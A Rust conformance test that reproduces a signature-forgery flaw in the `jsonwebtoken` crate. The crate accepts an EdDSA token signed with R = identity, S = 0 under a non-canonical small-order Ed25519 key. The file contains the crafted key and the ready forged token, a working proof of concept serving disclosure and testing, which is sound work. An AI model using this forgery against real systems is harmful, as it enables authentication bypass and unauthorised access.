//! Reproduction: `jsonwebtoken` 11.1.0 (feature `rust_crypto`) accepts, under a key set holding
//! a non-canonical small-order Ed25519 public key, an EdDSA token whose signature is R =
//! identity, S = 0: a signature anyone can make for any payload.
//!
//! RFC 7515 §5.2 step 8 (`RFC7515-5.2-signature`) and RFC 8037 §3.1.2 (`RFC8037-3.1.2-verify`):
//! the signature must be validated with the key (RFC 8032 §5.1.7 decodes `A` and refuses a
//! non-canonical encoding); RFC 9068 §4 (`RFC9068-4-signature`). The key's `x` is the identity
//! point with the sign bit set (x = 0, x_0 = 1), an encoding RFC 8032 §5.1.3 refuses. The
//! library decodes it with `ed25519_dalek::VerifyingKey::from_bytes` and checks with
//! `VerifyingKey::verify` (not `verify_strict`; `src/crypto/rust_crypto/eddsa.rs`), and
//! `Validation` has no setting that refuses small-order or non-canonical keys: the forged
//! token verifies and its claims come back.
//!
//! Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
//!
//! Configured as the conformance adapter (`src/adapters/jsonwebtoken.rs`): the JWK Set parsed
//! by the library (`JwkSet`), every key converted with `DecodingKey::from_jwk`, the token's key
//! chosen with `JwkSet::find(kid)`; `Validation` with algorithms [EdDSA] (the profile's of the
//! key's family), the issuer, the audience, leeway 0, `exp` and `nbf` validated,
//! `exp`/`iss`/`aud`/`sub` required. The vector's `now` (1700000000) cannot be given: the
//! library reads the system clock, and the token's `exp` (4102444800, year 2100) is valid under
//! either.
//!
//! Run: `cargo test -p conformance --test repro_jsonwebtoken` (add `-- --nocapture` to see the
//! REPRODUCED line).
#![cfg(feature = "rust-crates")]

use jsonwebtoken::jwk::JwkSet;
use jsonwebtoken::{Algorithm, DecodingKey, Validation, decode, decode_header};
use serde_json::{Map, Value};

const VECTOR: &str = "eddsa/key-non-canonical-identity-sign-bit";
const ISSUER: &str = "https://issuer.example";
const AUDIENCE: &str = "https://api.example";
const JWKS: &str = r#"{"keys":[{"alg":"EdDSA","crv":"Ed25519","kid":"ed25519","kty":"OKP","use":"sig","x":"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}"#;
// Header: {"alg":"EdDSA","kid":"ed25519","typ":"at+jwt"}; signature: R = identity (01 00…00), S = 0.
const TOKEN: &str = "eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

fn not_reproduced(what: impl std::fmt::Display) -> ! {
    panic!("NOT REPRODUCED {VECTOR}: {what}")
}

#[test]
fn reproduces() {
    let set: JwkSet =
        serde_json::from_str(JWKS).unwrap_or_else(|e| not_reproduced(format!("JwkSet: {e}")));
    for jwk in &set.keys {
        DecodingKey::from_jwk(jwk)
            .unwrap_or_else(|e| not_reproduced(format!("DecodingKey::from_jwk: {e}")));
    }
    let mut validation = Validation::new(Algorithm::EdDSA);
    validation.algorithms = vec![Algorithm::EdDSA];
    validation.leeway = 0;
    validation.validate_exp = true;
    validation.validate_nbf = true;
    validation.validate_aud = true;
    validation.set_required_spec_claims(&["exp", "iss", "aud", "sub"]);
    validation.set_issuer(&[ISSUER]);
    validation.set_audience(&[AUDIENCE]);

    let header = decode_header(TOKEN)
        .unwrap_or_else(|e| not_reproduced(format!("decode_header rejected the token: {e}")));
    let kid = header
        .kid
        .unwrap_or_else(|| not_reproduced("no kid in the header"));
    let jwk = set
        .find(&kid)
        .unwrap_or_else(|| not_reproduced(format!("JwkSet::find: no key with kid {kid:?}")));
    let key = DecodingKey::from_jwk(jwk)
        .unwrap_or_else(|e| not_reproduced(format!("DecodingKey::from_jwk: {e}")));

    match decode::<Map<String, Value>>(TOKEN, &key, &validation) {
        Ok(data) => println!(
            "REPRODUCED {VECTOR}: jsonwebtoken accepted an EdDSA token signed R = identity, \
             S = 0 under a non-canonical small-order key (x = 0 with the sign bit) and returned \
             its claims (sub {})",
            data.claims.get("sub").unwrap_or(&Value::Null)
        ),
        Err(e) => not_reproduced(format!("jsonwebtoken rejected the token: {e}")),
    }
}
